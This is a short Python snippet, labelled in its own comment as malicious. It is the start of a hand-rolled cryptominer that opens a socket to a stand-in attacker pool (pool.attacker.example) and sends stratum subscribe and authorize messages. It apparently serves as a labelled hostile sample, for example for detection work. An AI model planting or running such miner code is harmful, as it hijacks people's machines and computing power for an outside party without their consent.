# Malicious: a hand-rolled miner speaking the stratum protocol to a mining pool (stratum+tcp).
import json
import socket

POOL = "stratum+tcp://pool.attacker.example:4444"
host, port = POOL.removeprefix("stratum+tcp://").split(":")
s = socket.create_connection((host, int(port)))
s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5"]}).encode() + b"\n")
s.sendall(json.dumps({"id": 2, "method": "mining.authorize", "params": ["worker1", "x"]}).encode() + b"\n")
